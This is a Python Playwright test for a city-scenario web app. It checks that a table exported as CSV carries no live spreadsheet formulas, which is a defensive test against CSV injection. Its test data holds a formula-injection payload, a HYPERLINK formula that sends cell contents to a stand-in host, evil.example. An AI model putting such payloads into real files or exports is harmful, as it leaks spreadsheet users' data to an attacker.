"""What a table of the page gives away as a file is harmless where it is opened."""

import csv
from dataclasses import replace
from pathlib import Path

from playwright.sync_api import Page, expect

from geo.cities import load_city
from geo.imports import ImportReport
from geo.store.folder import FolderStore
from geo.store.parts import parts_of_city
from tests.browser.maps import map_frame
from tests.browser.servers import Server

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1)'


def store_formulas(server: Server) -> str:
    """The largest made-up city with a formula for the name of every area."""
    city = load_city("musterhafen")
    names = [f"{FORMULA}{number}" for number in range(len(city.areas))]
    city = replace(city, key="formeln", name="Formeln", areas=city.areas.assign(name=names))
    parts = parts_of_city(city, report=ImportReport(), recipe={}, originals={})
    FolderStore(server.log.parent / "workspace").write_parts(city.key, parts, replace=True)
    return city.key


def test_a_table_of_numbers_downloads_no_formula(page: Page, server: Server) -> None:
    # Without a window of the system that asks where to save.
    page.add_init_script("delete window.showSaveFilePicker")
    page.goto(server.page("Szenarien", city=store_formulas(server)))
    map_frame(page)
    page.locator("summary", has_text="Vermittlung").click()
    table = page.get_by_test_id("stDataFrame").first
    expect(table).to_be_visible()
    table.hover()
    with page.expect_download() as waiting:
        page.get_by_role("button", name="Download as CSV").first.click()
    with Path(waiting.value.path()).open(encoding="utf-8-sig", newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert any(FORMULA in cell for cell in cells)
    assert not [cell for cell in cells if cell.startswith(tuple("=+@"))]
